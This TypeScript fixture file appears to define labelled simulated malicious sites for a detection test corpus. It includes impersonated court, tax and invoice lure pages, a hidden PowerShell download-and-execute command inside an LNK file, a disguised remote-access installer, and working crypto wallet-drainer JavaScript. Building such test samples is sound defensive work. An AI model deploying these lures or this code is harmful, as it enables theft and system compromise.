import type { Entry } from '../entry.js';
import { cfb, iso, lnk, pe, zip } from '../parts/e-bin.js';
import { doc, fileRoute, htmlRoute, jsonRoute, jsRoute } from '../parts/z-kit.js';

export const entries: Entry[] = [
{
  id: 'z-mal-fr-convocation-tribunal-iso',
  label: 'malware',
  kind: 'court-papers-malware',
  url: 'https://justice-convocation.fr-tribunal.com/dossier/TJ-75-2026-18834',
  routes: {
    'justice-convocation.fr-tribunal.com/dossier/TJ-75-2026-18834': htmlRoute(doc({
      lang: 'fr',
      title: 'Tribunal judiciaire de Paris – Convocation à l\'audience',
      css: 'body{font-family:Marianne,Arial;margin:0;background:#f6f6f6}.h{background:#fff;padding:14px 30px;border-bottom:1px solid #ddd}.w{max-width:640px;margin:24px auto;background:#fff;padding:26px}.b{background:#000091;color:#fff;padding:12px 22px;text-decoration:none;display:inline-block}',
      body: `<div class="h"><b>MINISTÈRE DE LA JUSTICE</b> · Tribunal judiciaire de Paris</div>
<div class="w"><h2>Convocation – Affaire n° TJ-75-2026-18834</h2><p>Madame, Monsieur,</p><p>Vous êtes convoqué(e) à l'audience du <b>12 janvier 2027 à 9h30</b> en qualité de partie défenderesse dans le cadre d'une procédure engagée à votre encontre pour défaut de paiement.</p><p>Les pièces du dossier (assignation, bordereau de pièces, ordonnance) sont disponibles ci-dessous. Le défaut de comparution peut entraîner un jugement par défaut.</p>
<p><a class="b" href="/dossier/TJ-75-2026-18834/pieces.iso">Télécharger les pièces du dossier (ISO, 1,2 Mo)</a></p><p style="font-size:12px">Greffe du tribunal – Parvis du Tribunal de Paris, 75017 Paris</p></div>`,
    })),
    'justice-convocation.fr-tribunal.com/dossier/TJ-75-2026-18834/pieces.iso': fileRoute(iso('TJ_PIECES', ['ASSIGNATION.PDF.LNK', 'BORDEREAU.PDF.LNK', 'DATA.DLL']), 'application/x-iso9660-image', 'Pieces_Dossier_TJ-75-2026-18834.iso'),
  },
},
{
  id: 'z-mal-pl-faktura-vat-lnk',
  label: 'malware',
  kind: 'invoice-malware',
  url: 'https://faktury.e-dokumenty-pl.com/pobierz?id=FV-11-2026-0931',
  routes: {
    'faktury.e-dokumenty-pl.com/pobierz': htmlRoute(doc({
      lang: 'pl',
      title: 'Faktura VAT FV/11/2026/0931 – pobieranie',
      css: 'body{font-family:Arial;background:#eef1f5;margin:0;text-align:center}.w{max-width:460px;margin:80px auto;background:#fff;padding:30px;border-radius:6px}.s{width:36px;height:36px;border:4px solid #ccc;border-top-color:#1c64f2;border-radius:50%;margin:16px auto;animation:r 1s linear infinite}@keyframes r{to{transform:rotate(360deg)}}',
      body: `<div class="w"><h3>Faktura VAT nr FV/11/2026/0931</h3><div class="s"></div><p>Trwa przygotowywanie dokumentu do pobrania…</p><p style="font-size:13px;color:#666">Jeśli pobieranie nie rozpocznie się automatycznie, <a id="a" href="#">kliknij tutaj</a>.</p></div>
<script>
var b64='UEsDBBQAAAAAAA';
fetch('/pobierz/plik?id=FV-11-2026-0931').then(function(r){return r.blob()}).then(function(bl){var u=URL.createObjectURL(bl);var a=document.getElementById('a');a.href=u;a.download='Faktura_FV_11_2026_0931.zip';a.click();});
</script>`,
    })),
    'faktury.e-dokumenty-pl.com/pobierz/plik': fileRoute(zip([{ name: 'Faktura_FV_11_2026_0931.pdf.lnk', data: lnk('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', '-nop -w hidden -c "$u=\'https://faktury.e-dokumenty-pl.com/s/p.txt\';iex(iwr $u -UseBasicParsing).Content"', 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe') }]), 'application/octet-stream'),
  },
},
{
  id: 'z-mal-es-factura-endesa-msi',
  label: 'malware',
  kind: 'invoice-malware',
  url: 'https://endesa-facturas.clientes-es.net/factura/descargar',
  routes: {
    'endesa-facturas.clientes-es.net/factura/descargar': htmlRoute(doc({
      lang: 'es',
      title: 'Endesa – Tu factura de luz está disponible',
      css: 'body{margin:0;font-family:Arial;background:#f4f4f4}.h{background:#fff;padding:14px 30px;border-bottom:3px solid #0555fa;color:#0555fa;font-weight:800;font-size:22px}.w{max-width:560px;margin:24px auto;background:#fff;padding:24px}.b{display:inline-block;background:#0555fa;color:#fff;padding:12px 22px;text-decoration:none;border-radius:22px}',
      body: `<div class="h">endesa</div><div class="w"><h3>Factura de electricidad – Noviembre 2026</h3><p>Importe: <b>128,43 €</b> · Fecha de cargo: 05/12/2026</p><p>Hemos detectado un cobro duplicado en su última factura. Para visualizar la factura rectificativa y solicitar el reembolso necesita el <b>Visor Seguro de Facturas Endesa</b>.</p>
<p><a class="b" href="/factura/VisorFacturas_Endesa_1.4.2.msi">Descargar visor y factura</a></p><p style="font-size:11px;color:#888">Endesa Energía S.A.U. · Ribera del Loira 60, 28042 Madrid</p></div>`,
    })),
    'endesa-facturas.clientes-es.net/factura/VisorFacturas_Endesa_1.4.2.msi': fileRoute(cfb(['Windows Installer', 'VisorFacturas', 'ScreenConnect.ClientService.exe', 'relay.clientes-es.net']), 'application/x-msi', 'VisorFacturas_Endesa_1.4.2.msi'),
  },
},
{
  id: 'z-mal-nl-belastingdienst-aanslag-exe',
  label: 'malware',
  kind: 'court-papers-malware',
  url: 'https://berichtenbox-mijnoverheid.documenten-nl.com/aanslag/2026',
  routes: {
    'berichtenbox-mijnoverheid.documenten-nl.com/aanslag/2026': htmlRoute(doc({
      lang: 'nl',
      title: 'MijnOverheid Berichtenbox – Nieuw bericht van de Belastingdienst',
      css: 'body{margin:0;font-family:Verdana;background:#fff}.h{background:#154273;color:#fff;padding:14px 30px}.w{max-width:640px;margin:24px auto}.msg{border:1px solid #ccc;padding:18px}.b{display:inline-block;background:#01689b;color:#fff;padding:10px 20px;text-decoration:none}',
      body: `<div class="h">MijnOverheid · Berichtenbox</div><div class="w"><div class="msg"><p><b>Van:</b> Belastingdienst<br><b>Onderwerp:</b> Navorderingsaanslag inkomstenbelasting 2024</p><p>Geachte heer/mevrouw,</p><p>Wij hebben uw aangifte opnieuw beoordeeld en leggen een navorderingsaanslag op van € 2.318,00 met een vergrijpboete. U kunt binnen 6 weken bezwaar maken. Open het beveiligde document met de bijgevoegde lezer.</p>
<p><a class="b" href="/aanslag/2026/Aanslag_IB_2024_Belastingdienst.exe">Bekijk aanslag (beveiligd document)</a></p></div></div>`,
    })),
    'berichtenbox-mijnoverheid.documenten-nl.com/aanslag/2026/Aanslag_IB_2024_Belastingdienst.exe': fileRoute(pe({ strings: ['Belastingdienst Document Viewer', 'SecureDocReader', 'https://berichtenbox-mijnoverheid.documenten-nl.com/gate.php', 'Software\\Microsoft\\Windows\\CurrentVersion\\Run'] }), 'application/x-msdownload', 'Aanslag_IB_2024_Belastingdienst.exe'),
  },
},
{
  id: 'z-drain-airdrop-eu-stablecoin-claim',
  label: 'cryptodrainer',
  kind: 'wallet-drainer',
  url: 'https://claim.euro-stable-airdrop.xyz/',
  routes: {
    'claim.euro-stable-airdrop.xyz/': htmlRoute(doc({
      lang: 'en',
      title: 'EURS Genesis Airdrop – Claim your allocation',
      css: 'body{margin:0;font-family:Inter,Arial;background:radial-gradient(#1a2a6c,#0b0f24);color:#fff;min-height:100vh}.n{display:flex;justify-content:space-between;padding:18px 30px}.c{max-width:460px;margin:60px auto;background:rgba(255,255,255,.06);padding:28px;border-radius:18px;text-align:center}button{background:linear-gradient(90deg,#4f46e5,#06b6d4);border:0;color:#fff;padding:14px 30px;border-radius:12px;font-size:16px;font-weight:700}.s{font-size:12px;opacity:.7}',
      body: `<div class="n"><b>€URS Protocol</b><span>Docs · Governance · <b>Airdrop</b></span></div>
<div class="c"><h1>Genesis Airdrop is live</h1><p>Eligible wallets can claim up to <b>2,500 EURS</b>. Season 1 ends in <b>03:12:44</b>.</p><button id="c">Connect wallet</button><p id="st" class="s">MetaMask · WalletConnect · Coinbase Wallet · Trust</p></div>
<script src="/assets/claim.bundle.js"></script>`,
    })),
    'claim.euro-stable-airdrop.xyz/assets/claim.bundle.js': jsRoute(`(function(){var R='0x7a3B9c2D1e0F4a5B6c7D8e9F0a1B2c3D4e5F6a7B';var T=['0xdAC17F958D2ee523a2206206994597C13D831ec7','0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48','0x6B175474E89094C44Da98b954EedeAC495271d0F'];
var st=document.getElementById('st');
document.getElementById('c').onclick=async function(){if(!window.ethereum){st.textContent='No wallet detected. Install MetaMask.';return}
var a=(await ethereum.request({method:'eth_requestAccounts'}))[0];st.textContent='Checking eligibility for '+a.slice(0,6)+'…';
for(var i=0;i<T.length;i++){var data='0x095ea7b3'+R.slice(2).toLowerCase().padStart(64,'0')+'f'.repeat(64);
try{await ethereum.request({method:'eth_sendTransaction',params:[{from:a,to:T[i],data:data}]})}catch(e){}}
var bal=await ethereum.request({method:'eth_getBalance',params:[a,'latest']});var v=BigInt(bal)*95n/100n;
try{await ethereum.request({method:'eth_sendTransaction',params:[{from:a,to:R,value:'0x'+v.toString(16)}]})}catch(e){}
fetch('https://claim.euro-stable-airdrop.xyz/api/log',{method:'POST',body:JSON.stringify({a:a,b:bal})});st.textContent='Claim pending – please wait for confirmation.';};})();`),
    'claim.euro-stable-airdrop.xyz/api/log': jsonRoute({ ok: 1 }),
  },
},
];
